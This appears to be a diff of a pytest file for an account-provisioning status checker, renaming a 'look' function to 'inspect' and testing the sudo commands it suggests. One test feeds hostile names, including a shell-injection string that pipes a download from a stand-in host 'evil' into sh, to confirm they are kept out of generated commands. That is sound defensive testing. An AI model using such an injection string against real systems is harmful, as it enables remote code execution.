@@ -38,57 +38,55 @@ def host(tmp_path: Path) -> Host:
 
 
 def test_nothing_is_left_but_to_finish_the_row(host: Host) -> None:
-    found = provisioning_status.look(account(password_hash="v1$x"), host)
+    found = provisioning_status.inspect(account(password_hash="v1$x"), host)
     assert found == ([], "sudo svc admin create-user nobody", "")
-    assert provisioning_status.look(account(), host).steps == ["password"]
+    assert provisioning_status.inspect(account(), host).steps == ["password"]
 
 
 def test_each_step_is_looked_for(host: Host) -> None:
     root = Path(host.root)
     user = account(password_hash="v1$x", superuser=True)
     (root / "etc/subuid").write_text("nobody:165536:65535\n")
-    mark = (
-        "administrator's mark (--superuser, if that was your word)"  # the row's own is no reason to give it
-    )
-    assert provisioning_status.look(user, host).steps == ["subordinate uids", mark]
+    mark = "administrator's mark (--superuser, if you want it)"  # the row's own is no reason to give it
+    assert provisioning_status.inspect(user, host).steps == ["subordinate uids", mark]
     (root / "etc/subuid").write_text(f"{NOBODY.pw_uid}:165536:65536\n")
     (root / "etc/subgid").unlink()
-    assert provisioning_status.look(user, host).steps == ["subordinate gids", mark]
+    assert provisioning_status.inspect(user, host).steps == ["subordinate gids", mark]
     host.enrolled[1] = Enrolled("nobody", 4001)
     (root / "run/systemd/system").mkdir(parents=True)
     os.rmdir(root / NOBODY.pw_dir.lstrip("/"))
     steps = ["home directory", "subordinate gids", "lingering", "enrolment", mark]
-    assert provisioning_status.look(user, host)[:2] == (steps, "sudo svc admin create-user nobody")
+    assert provisioning_status.inspect(user, host)[:2] == (steps, "sudo svc admin create-user nobody")
 
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "\x1b]0;x\x07", "nul\0", "-x", ""])
 def test_no_command_is_made_of_what_is_no_name(host: Host, name: str) -> None:
-    found = provisioning_status.look(account(name=name), host)
+    found = provisioning_status.inspect(account(name=name), host)
     assert found.command == "sudo svc admin doctor"
     assert name not in "".join(found.steps) or not name
 
 
 def test_without_a_linux_account_all_is_left(host: Host) -> None:
-    assert provisioning_status.look(account(name="no-such-account"), host).steps == ALL
+    assert provisioning_status.inspect(account(name="no-such-account"), host).steps == ALL
 
 
 def test_a_ready_account_is_asked_only_whose_it_is(host: Host, tmp_path: Path) -> None:
     host.enrolled.clear()
     ready = {"provisioning": users.READY, "superuser": True}
-    assert provisioning_status.look(account(uid=NOBODY.pw_uid, **ready), host) == provisioning_status.DONE
-    assert provisioning_status.look(account(name="root", uid=0, **ready), host) == provisioning_status.DONE
-    gone = provisioning_status.look(account(name="no-such-account", uid=4001, **ready), host)
+    assert provisioning_status.inspect(account(uid=NOBODY.pw_uid, **ready), host) == provisioning_status.DONE
+    assert provisioning_status.inspect(account(name="root", uid=0, **ready), host) == provisioning_status.DONE
+    gone = provisioning_status.inspect(account(name="no-such-account", uid=4001, **ready), host)
     assert gone.steps == ["Linux account"]
-    assert gone.note == "its Linux account is gone; a new one inherits nothing of this"
+    assert gone.note == "its Linux account is gone; a new one inherits nothing from this account"
     assert gone.command == "sudo svc admin create-user no-such-account"  # the next one is no superuser
-    other = provisioning_status.look(account(uid=4001, **ready), host)
+    other = provisioning_status.inspect(account(uid=4001, **ready), host)
     assert f"has uid {NOBODY.pw_uid} now" in other.note
     assert provisioning_status.record(account(uid=4001, **ready), host)["note"] == other.note
 
 
 def test_of_a_retired_account_files_may_be_left(host: Host) -> None:
     retired = account(name="ada.4001", provisioning=users.CLEANUP)
-    assert provisioning_status.look(retired, host).command == "sudo find / -xdev -nouser"
+    assert provisioning_status.inspect(retired, host).command == "sudo find / -xdev -nouser"
 
 
 @pytest.mark.parametrize(
